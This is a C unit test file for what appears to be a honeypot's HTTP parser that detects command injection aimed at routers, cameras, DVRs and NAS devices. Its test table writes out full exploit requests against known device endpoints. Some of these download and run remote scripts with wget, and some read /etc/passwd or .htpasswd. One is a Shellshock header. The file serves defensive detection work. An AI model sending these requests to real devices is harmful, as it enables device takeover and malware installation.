#include "trap/http-commands.h"

#include "base/text.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#define FORM(path, body) "POST " path " HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n", body
#define SOAP(path, body) "POST " path " HTTP/1.1\r\nSOAPAction: \"urn:x#y\"\r\n", "<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"u\"><s:Body>" body "</s:Body></s:Envelope>"
#define GET(target) "GET " target " HTTP/1.1\r\n", ""

/* A request, and what is found in it: "entry| command| command". The commands are harmless, as all that is tried here. */
static const struct {
    const char *head, *body, *found;
} cases[] = {
    { GET("/"), "" },
    { GET("/index.html?a=1&b=2"), "" },
    /* SOAP. */
    { SOAP("/UD/act?1", "<u:SetNTPServers xmlns:u=\"x\"><NewNTPServer1>`cd /tmp;wget http://192.0.2.1/a;sh a`</NewNTPServer1>"
                        "<NewNTPServer2>`echo b`</NewNTPServer2><NewNTPServer3></NewNTPServer3></u:SetNTPServers>"),
      "tr064-ntp| cd /tmp;wget http://192.0.2.1/a;sh a| echo b" },
    { SOAP("/UD/act?1", "<u:SetNTPServers><NewNTPServer1>ntp.example.com</NewNTPServer1></u:SetNTPServers>"), "tr064-ntp" },
    { SOAP("/ctrlt/DeviceUpgrade_1", "<u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 192.0.2.1 -l /tmp/a -r /a; sh /tmp/a)</NewStatusURL>"
                                     "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade>"),
      "upnp-upgrade| /bin/busybox wget -g 192.0.2.1 -l /tmp/a -r /a; sh /tmp/a| echo HUAWEIUPNP" },
    { SOAP("/picsdesc.xml", "<u:AddPortMapping><NewRemoteHost></NewRemoteHost><NewInternalClient>`id`</NewInternalClient></u:AddPortMapping>"),
      "upnp-wanip| id" },
    { SOAP("/wanipcn.xml", "<NewInternalClient>192.0.2.7</NewInternalClient>"), "upnp-wanip" },
    { SOAP("/wanipcn.xml", "<a:NewInternalClient t=\"y\">&#x60;id &gt; /tmp/a &amp;&amp; uname&#96;</a:NewInternalClient>"),
      "upnp-wanip| id > /tmp/a && uname" },
    { SOAP("/wanipcn.xml", "<NewInternalClient><![CDATA[`cat <a`]]></NewInternalClient>"), "upnp-wanip| cat <a" },
    { "POST /HNAP1/ HTTP/1.1\r\nSOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings/`id`\"\r\n", "", "hnap| id" },
    /* A whole command. */
    { GET("/shell?id"), "jaws-shell| id" },
    { GET("/shell?cd+/tmp;rm+-rf+a;wget+http://192.0.2.1/a;sh+a"), "jaws-shell| cd /tmp;rm -rf a;wget http://192.0.2.1/a;sh a" },
    { GET("/shell?cd /tmp; wget http://192.0.2.1/a"), "jaws-shell| cd /tmp; wget http://192.0.2.1/a" },
    { GET("/setup.cgi?next_file=x.cfg&todo=syscmd&cmd=cat+/www/.htpasswd&curpath=/"), "netgear-setup| cat /www/.htpasswd" },
    { GET("/setup.cgi?todo=x"), "netgear-setup" },
    { GET("/board.cgi?cmd=cat%20/etc/passwd"), "dvr-board| cat /etc/passwd" },
    { FORM("/boafrm/formSysCmd", "sysCmd=id&apply=Apply&msg="), "boa-syscmd| id" },
    { FORM("/device.rsp?opt=sys&cmd=x&mdb=sos&mdc=id", ""), "dvr-device-rsp| id" },
    { GET("/cgi-bin/nas_sharing.cgi?user=x&passwd=&cmd=15&system=aWQgLXU="), "nas-sharing| id -u" },
    /* Put into one. */
    { FORM("/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://192.0.2.1/g;sh+g&ipv=0"),
      "gpon-diag| wget http://192.0.2.1/g;sh g" },
    { FORM("/GponForm/diag_Form?images/", "dest_host=`id`;id+-u"), "gpon-diag| id| id -u" },
    { FORM("/tmUnblock.cgi", "submit_button=&ttcp_num=2&ttcp_ip=-h+%60cd+/tmp%3B+id%60"), "linksys-ttcp| cd /tmp; id" },
    { FORM("/cgi-bin/ViewLog.asp", "remote_submit_Flag=1&remote_host=%3bid%3b%23&remoteSubmit=Save"), "zyxel-log| id" },
    { FORM("/diagnostic.php", "act=ping&dst=%26%20id%26"), "dlink-diagnostic| id" },
    { FORM("/apply.cgi", "adj_time_year=$(id)&adj_time_month=1"), "apply-time| id" },
    { FORM("/apply.cgi", "SystemCmd=id"), "apply-command| id" },
    { GET("/set_ftp.cgi?next_url=ftp.htm&user=$(id)&pwd=a&dir=/"), "camera-ftp| id" },
    { GET("/language/Swedish${IFS}&&wget${IFS}http://192.0.2.1/a&&tar${IFS}/string.js"),
      "dvr-language| wget${IFS}http://192.0.2.1/a&&tar${IFS}/string.js" },
    { GET("/cgi-bin/;id"), "cgi-bin-path| id" },
    { GET("/cgi-bin/;uname$IFS-a"), "cgi-bin-path| uname$IFS-a" },
    { GET("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"), "luci-locale| id" },
    { "PUT /SDK/webLanguage HTTP/1.1\r\n", "<?xml version=\"1.0\"?><language>$(id)</language>", "camera-language| id" },
    { FORM("/cgi-bin/cstecgi.cgi", "{\"topicurl\":\"setting/setX\",\"command\":\"127.0.0.1; id;#\"}"), "totolink-cste| id" },
    { "POST /camera-cgi/admin/param.cgi HTTP/1.1\r\n",
      "--b\r\nContent-Disposition: form-data; name=\"NTP\"\r\n\r\na;id\r\n--b--\r\n", "camera-param| id" },
    /* Quotes of the device's own line, and what closes it. */
    { FORM("/diagnostic.php", "dst=a'%3Bid+-u%3B'"), "dlink-diagnostic| id -u" },
    { FORM("/diagnostic.php", "dst=a%22%3Bid%3Becho+%22b"), "dlink-diagnostic| id;echo \"b\"" },
    { FORM("/diagnostic.php", "dst=$(echo+$(id))"), "dlink-diagnostic| echo $(id)" },
    { FORM("/diagnostic.php", "dst=`id"), "dlink-diagnostic| id" },
    { FORM("/diagnostic.php", "dst=$(id"), "dlink-diagnostic| id" },
    { FORM("/diagnostic.php", "dst=;"), "dlink-diagnostic" },
    { FORM("/diagnostic.php", "dst=%00;%00i%00d"), "dlink-diagnostic| id" },
    { FORM("/diagnostic.php", "dst=1%0aid"), "dlink-diagnostic| id" },
    /* Of no table: only what begins with a command's name. */
    { GET("/new.cgi?host=;wget+http://192.0.2.1/a"), "| wget http://192.0.2.1/a" },
    { GET("/new.cgi?host=1|/bin/busybox+id"), "| /bin/busybox id" },
    { GET("/new.cgi?host=;cd${IFS}/tmp"), "| cd${IFS}/tmp" },
    { GET("/page;jsessionid=1?a=b|c;d&e=`x`"), "" },
    { GET("/x;id"), "| id" },
    { FORM("/x", "{\"a\":[\"1\", \"`id`\"], \"b\": 2, \"c\":\"d\"}"), "| id" },
    { FORM("/x", "a=b&c=(x;+y)"), "" },
    { SOAP("/x", "<a>;uname -a</a>"), "| uname -a" },
    { "GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :;}; /bin/id\r\n", "", "cgi-function| /bin/id" },
    { "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; id; `x`) $y\r\nCookie: a=b; id=1; sh\r\n", "", "" },
    { "GET / HTTP/1.1\r\nCookie: uid=`id`; a=$(x)\r\n", "", "| id" },
    { GET("/a.cgi?x=1&cmd=wget%20http://192.0.2.1/a"), "| wget http://192.0.2.1/a" },
    { GET("/a.cgi?cmd=login&command=list"), "" },
    { FORM("/rpc", "{\"method\":\"x\",\"Command\":\"cd /tmp; id\"}"), "| cd /tmp; id" },
};

static void feed(struct http_request *r, const char *head, const char *body)
{
    char length[64];
    http_begin(r);
    snprintf(length, sizeof length, "Content-Length: %zu\r\n\r\n", strlen(body));
    http_feed(r, head, strlen(head));
    http_feed(r, length, strlen(length));
    http_feed(r, body, strlen(body));
    assert_int_equal(r->state, HTTP_WHOLE);
}

static void test_found(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct http_request r;
        struct http_found f;
        struct buf told;
        buf_init(&told, 1 << 16);
        feed(&r, cases[i].head, cases[i].body);
        http_find(&r, &f);
        buf_text(&told, f.entry);
        const char *at = (const char *)f.commands.data;
        for (size_t k = 0; k < f.n; k++, at += strlen(at) + 1)
            buf_print(&told, "| %s", at);
        buf_u8(&told, '\0');
        if (strcmp((char *)told.data, cases[i].found) != 0)
            fail_msg("case %zu: %s%s\nhas\n%s\nnot\n%s", i, cases[i].head, cases[i].body, told.data, cases[i].found);
        buf_release(&told);
        http_found_release(&f);
        http_release(&r);
    }
}

/* However many commands there are, and however long. */
static void test_bounds(void **state)
{
    (void)state;
    struct http_request r;
    struct http_found f;
    char *body = calloc(1, HTTP_BODY_MOST);
    assert_non_null(body);
    for (size_t n = 0; n < 4000; n += 4)
        memcpy(body + n, "`id`", 4);
    memcpy(body, "dst=", 4);
    feed(&r, "POST /diagnostic.php HTTP/1.1\r\n", body);
    http_find(&r, &f);
    assert_int_equal(f.n, HTTP_COMMANDS_MOST);
    http_found_release(&f);
    http_release(&r);
    memset(body, 'x', HTTP_BODY_MOST - 1);
    memcpy(body, "dst=;id;id ", 11);
    feed(&r, "POST /diagnostic.php HTTP/1.1\r\n", body);
    http_find(&r, &f);
    assert_int_equal(f.n, 0); /* it is longer than all that is kept */
    assert_string_equal(f.entry, "dlink-diagnostic");
    http_found_release(&f);
    http_release(&r);
    free(body);
}

static void test_table(void **state)
{
    (void)state;
    const struct http_entry *e;
    for (size_t i = 0; (e = http_entry_at(i)); i++)
        assert_true(*e->name && *e->path == '/' && (e->place == PLACE_VALUE || e->place == PLACE_HEADER) == (*e->key != '\0'));
    assert_null(http_entry_at(10000));
}

static void test_paths(void **state)
{
    (void)state;
    static const char *const entries[] = { "/setup.cgi", "/SETUP.CGI", "/setup.cgi/x", "/shell", "/HNAP1", "/HNAP1/x", "/bin/zhttpd/x",
                                           "/goform/setUsbUnload/x", "/cgi-bin/;id" };
    static const char *const others[] = { "", "/", "/setup.cgis", "/x/setup.cgi", "/shell/arm7", "/shells", "/bin/zhttpd", "/bins/mips" };
    for (size_t i = 0; i < sizeof entries / sizeof *entries; i++)
        if (!http_is_entry(entries[i]))
            fail_msg("%s is none", entries[i]);
    for (size_t i = 0; i < sizeof others / sizeof *others; i++)
        if (http_is_entry(others[i]))
            fail_msg("%s is one", others[i]);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_found),
        cmocka_unit_test(test_bounds),
        cmocka_unit_test(test_table),
        cmocka_unit_test(test_paths),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
